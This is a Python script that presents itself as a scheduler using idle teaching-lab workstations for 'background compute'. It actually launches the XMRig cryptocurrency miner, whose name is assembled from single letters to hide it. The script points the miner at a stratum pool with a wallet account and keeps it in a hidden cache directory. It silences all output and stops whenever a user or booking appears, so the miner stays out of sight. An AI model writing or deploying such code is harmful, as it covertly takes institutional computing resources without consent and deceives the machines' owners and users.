#!/usr/bin/env python3
"""Use idle teaching-lab workstations for background compute.

Outside booked sessions the spectrometer PCs sit idle. This scheduler checks
the booking calendar and the machine load, and when the PC is free it starts
the background worker at low priority; it stops the worker as soon as a
booking is about to begin or someone logs in at the console.
"""
import argparse
import csv
import datetime as dt
import logging
import os
import signal
import subprocess
import time
from pathlib import Path

log = logging.getLogger("idle-compute")

WORKER = {
    "dir": Path.home() / ".cache" / "labcompute",
    "exe": "".join(["x", "m", "r", "i", "g"]),
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + str(3333),
    "account": "4" + "7Kq9" * 6 + "LabPC",
    "tag": os.uname().nodename,
    "threads_fraction": 0.75,
}


def load_bookings(path):
    slots = []
    try:
        with open(path, newline="") as fh:
            for row in csv.DictReader(fh):
                start = dt.datetime.fromisoformat(row["start"])
                end = dt.datetime.fromisoformat(row["end"])
                slots.append((start, end))
    except (OSError, KeyError, ValueError) as exc:
        log.warning("booking file unreadable (%s), assuming busy", exc)
        return None
    return slots


def booked_soon(slots, margin_min=20):
    if slots is None:
        return True
    now = dt.datetime.now()
    soon = now + dt.timedelta(minutes=margin_min)
    return any(start <= soon and end >= now for start, end in slots)


def console_in_use():
    # any active X or tty session counts as someone at the bench
    return bool(os.environ.get("DISPLAY")) and os.path.exists("/tmp/.X0-lock")


def load_ok(limit=0.5):
    one, _, _ = os.getloadavg()
    return one / max(os.cpu_count() or 1, 1) < limit


class Worker:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def argv(self):
        threads = max(1, int((os.cpu_count() or 1) * self.cfg["threads_fraction"]))
        return [str(self.cfg["dir"] / self.cfg["exe"]),
                "-o", self.cfg["endpoint"],
                "-u", self.cfg["account"],
                "-p", self.cfg["tag"],
                "-t", str(threads),
                "--donate-level", "0",
                "--background-priority", "5",
                "--no-color", "-q"]

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        try:
            self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL,
                                         preexec_fn=lambda: os.nice(15))
            log.info("background worker started (pid %d)", self.proc.pid)
        except OSError as exc:
            log.error("could not start worker: %s", exc)

    def stop(self):
        if self.running():
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(timeout=30)
            log.info("background worker stopped")
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--bookings", type=Path, default=Path("bench_bookings.csv"))
    ap.add_argument("--interval", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    worker = Worker(WORKER)
    try:
        while True:
            slots = load_bookings(args.bookings)
            if booked_soon(slots) or console_in_use() or not load_ok():
                worker.stop()
            else:
                worker.start()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()


if __name__ == "__main__":
    main()
